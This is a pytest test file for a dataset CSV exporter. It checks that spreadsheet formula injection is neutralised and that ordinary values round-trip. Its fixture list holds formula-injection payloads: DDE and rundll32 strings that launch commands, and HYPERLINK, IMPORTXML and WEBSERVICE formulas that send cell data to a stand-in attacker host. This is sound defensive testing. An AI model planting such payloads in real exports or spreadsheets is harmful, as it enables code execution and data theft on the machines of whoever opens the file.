"""What is exported is what is stored, and nothing in it runs in a spreadsheet."""

import csv
from io import StringIO
from pathlib import Path

import pandas as pd
import pytest

from services.datasets.export import csv_of, neutralised
from services.datasets.tables import write_table_file

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd","/C calc","1")',
    "=SUM(1,2)*cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@import",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  +1",
    "\u00a0=1+1",
    "\u2003@x",
    '="a","b"',
    "=1;2",
    "-",
    "+",
    "=",
    "@",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "%0A=1".replace("%0A", "\n"),
    "=1\n=2",
    "+49 30 1234",
)


def exported(frame: pd.DataFrame, folder: Path) -> list[list[str]]:
    path = folder / "t.parquet"
    write_table_file(frame, path)
    return list(csv.reader(StringIO(csv_of(path).decode(), newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_formula_is_live(tmp_path: Path, formula: str) -> None:
    frame = pd.DataFrame({"text": pd.Series([formula, "plain"], dtype="str"), formula: [1, 2]})
    header, first, second = exported(frame, tmp_path)
    assert header == ["text", f"'{formula}"] == ["text", neutralised(formula)]
    assert first == [f"'{formula}", "1"]
    assert second == ["plain", "2"]


def test_there_are_thirty_of_them() -> None:
    assert len(set(FORMULAS)) == 30


def test_numbers_dates_and_gaps_are_what_they_are(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "whole": [-1, 2],
            "real": [-1.5, None],
            "text": pd.Series([None, 'say "hi", ok'], dtype="str"),
            "day": [pd.Timestamp("2024-12-31"), pd.NaT],
        }
    )
    rows = exported(frame, tmp_path)
    assert rows[1][:3] == ["-1", "-1.5", ""] and rows[1][3].startswith("2024-12-31")
    assert rows[2] == ["2", "", 'say "hi", ok', ""]
    again = pd.read_csv(StringIO(csv_of(tmp_path / "t.parquet").decode()))
    assert again["whole"].tolist() == [-1, 2]
